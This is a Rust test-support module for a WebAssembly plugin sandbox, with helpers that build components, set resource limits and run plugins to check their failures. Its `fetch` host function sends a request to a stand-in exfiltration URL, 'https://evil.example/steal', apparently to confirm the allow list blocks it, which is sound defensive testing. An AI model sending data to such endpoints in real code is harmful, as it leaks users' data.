//! Small components, written as text, that do what a host has to survive.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)]

mod calls;
mod hostile;
mod loading;
mod outgoing;

use std::sync::Arc;
use std::time::Duration;

use crate::{
    AllowList, CallSetup, Client, Contract, FailureKind, Fate, HostCalls, Interruption, Limits, Plugin, PluginEngine,
    PluginFailure, PluginIdentity, Ports, StoreState, linker, load,
};

/// A contract that offers `tick` and `fetch`, and asks for `run`.
fn contract() -> Contract {
    let offered = ["tick", "fetch"].map(|name| (name.to_owned(), "none".to_owned()));
    Contract { offered: offered.into(), standard: Vec::new(), required: vec!["run".to_owned()] }
}

/// A component whose export `run` has this body; `$tick` and `$fetch` are the
/// host's functions.
fn component(body: &str) -> Vec<u8> {
    let text = format!(
        r#"(component
            (import "tick" (func $tick))
            (import "fetch" (func $fetch))
            (core func $tick (canon lower (func $tick)))
            (core func $fetch (canon lower (func $fetch)))
            (core module $code
                (import "host" "tick" (func $tick))
                (import "host" "fetch" (func $fetch))
                (memory (export "memory") 1)
                (func (export "run") {body}))
            (core instance $instance (instantiate $code
                (with "host" (instance (export "tick" (func $tick)) (export "fetch" (func $fetch))))))
            (func (export "run") (canon lift (core func $instance "run"))))"#
    );
    wat::parse_str(text).unwrap()
}

fn limits() -> Limits {
    Limits {
        memory_bytes: 8 << 20,
        compute_time: Duration::from_millis(200),
        call_time: Duration::from_millis(400),
        ..Limits::default()
    }
}

/// Where `fetch` sends its request.
const FORBIDDEN: &str = "https://evil.example/steal";

fn plugin(engine: &Arc<PluginEngine>, body: &str) -> Plugin<()> {
    plugin_with(engine, body, limits())
}

fn plugin_with(engine: &Arc<PluginEngine>, body: &str, limits: Limits) -> Plugin<()> {
    let loaded = load(engine, &component(body), &contract(), None).unwrap();
    let mut linker = linker::<()>(engine).unwrap();
    let mut root = linker.root();
    root.func_wrap_async("tick", |store: wasmtime::StoreContextMut<'_, StoreState<()>>, (): ()| {
        let calls = store.data().host_calls().clone();
        Box::new(async move { Ok(calls.completed().await?) })
    })
    .unwrap();
    root.func_wrap_async("fetch", |mut store, (): ()| {
        let request = outgoing::request(FORBIDDEN);
        let answer = outgoing::send(store.data_mut(), request);
        Box::new(async move {
            drop(answer.await);
            Ok(())
        })
    })
    .unwrap();
    let identity = PluginIdentity { name: "sample".to_owned(), version: "1.2.3".to_owned() };
    let client = Client::new(AllowList::default(), None);
    Plugin::new(Arc::clone(engine), &linker, &loaded, identity, limits, client).unwrap()
}

fn setup(calls: HostCalls) -> CallSetup<()> {
    let ports = Ports::new(Arc::new(|| Duration::ZERO), [7; 32]);
    CallSetup { data: (), ports, calls, still_holds: None }
}

async fn run(plugin: &Plugin<()>, last: Option<u64>) -> Result<(), PluginFailure> {
    run_counted(plugin, HostCalls::new(last.map(|after| Interruption::TearDown { after }))).await
}

async fn run_counted(plugin: &Plugin<()>, calls: HostCalls) -> Result<(), PluginFailure> {
    plugin
        .call(setup(calls), |store, instance| {
            Box::pin(async move {
                let run = instance.get_typed_func::<(), ()>(&mut *store, "run")?;
                run.call_async(store, ()).await
            })
        })
        .await
}

async fn failure(body: &str) -> FailureKind {
    let engine = Arc::new(PluginEngine::start().unwrap());
    let error = run(&plugin(&engine, body), None).await.unwrap_err();
    // The same engine serves the next one.
    run(&plugin(&engine, ""), None).await.unwrap();
    error.kind
}
